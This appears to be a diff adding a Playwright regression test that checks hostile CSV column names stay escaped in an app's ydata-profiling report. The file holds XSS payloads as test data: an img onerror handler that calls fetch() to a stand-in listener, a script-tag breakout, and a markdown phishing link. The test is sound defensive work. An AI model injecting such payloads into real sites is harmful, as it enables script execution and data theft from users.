@@ -1,0 +1,56 @@
+"""Column names are data: one that carries a script must stay text everywhere, in a real browser.
+
+ydata-profiling writes column names into its HTML unescaped, so the deep profile is where a name like
+``<img src=x onerror=...>`` used to run with the app's origin, read the page and send it away.
+"""
+
+from __future__ import annotations
+
+import csv
+
+from playwright.sync_api import expect
+
+from tests.e2e.conftest import keep_screenshot, wait_for_app
+
+# Each payload would change the top page's title or send a request to a listener if it ever ran.
+SCRIPT_NAME = '<img src=x onerror="window.top.document.title=\'PWNED\';fetch(\'http://127.0.0.1:9/leak\')">'
+CLOSING_NAME = "</script><script>parent.document.title='PWNED2'</script>"
+MARKDOWN_NAME = "![x](http://127.0.0.1:9/img.png) [sign in again](http://127.0.0.1:9/login)"
+
+
+def test_hostile_column_names_never_run_or_fetch(page, server, tmp_path):
+    path = tmp_path / "hostile.csv"
+    with path.open("w", newline="", encoding="utf-8") as handle:
+        writer = csv.writer(handle)
+        writer.writerow([SCRIPT_NAME, CLOSING_NAME, MARKDOWN_NAME, "amount\\"])
+        for i in range(60):
+            writer.writerow([i % 7, f"level {i % 3}", i * 1.5, i % 2])
+
+    foreign: list[str] = []
+    page.on("request", lambda request: None if request.url.startswith((server.url, "data:", "about:"))
+            else foreign.append(request.url))
+    page.context.route("**/*", lambda route: route.continue_() if route.request.url.startswith(server.url)
+                       else route.abort())
+
+    page.goto(server.url)
+    wait_for_app(page)
+    page.get_by_test_id("stFileUploader").locator('input[type="file"]').set_input_files(str(path))
+    expect(page.get_by_test_id("stAlertContentSuccess")).to_contain_text("loaded as hostile")
+
+    page.get_by_test_id("stSidebarNav").get_by_role("link", name="Quality", exact=True).click()
+    expect(page.get_by_role("heading", name="Quality", exact=True)).to_be_visible()
+    page.get_by_role("tab", name="Deep profile").click()
+    page.get_by_role("button", name="Build the deep profile").click()
+    profile = page.frame_locator("iframe").first.frame_locator("iframe")
+    expect(profile.get_by_role("heading", name="Overview")).to_be_visible(timeout=180_000)
+    # the names are shown, as text
+    expect(profile.get_by_text(SCRIPT_NAME, exact=True).first).to_be_attached()
+    expect(profile.get_by_text(CLOSING_NAME, exact=True).first).to_be_attached()
+    page.wait_for_timeout(1_000)  # room for an onerror handler to fire if one had been created
+    keep_screenshot(page, "hostile-names-deep-profile")
+
+    assert "PWNED" not in page.title()
+    assert page.locator("img[src='x']").count() == 0
+    inner = [frame for frame in page.frames if frame.url.startswith("about:srcdoc")]
+    assert all(frame.locator("img[src='x']").count() == 0 for frame in inner)
+    assert foreign == [], f"requests left the server: {foreign}"
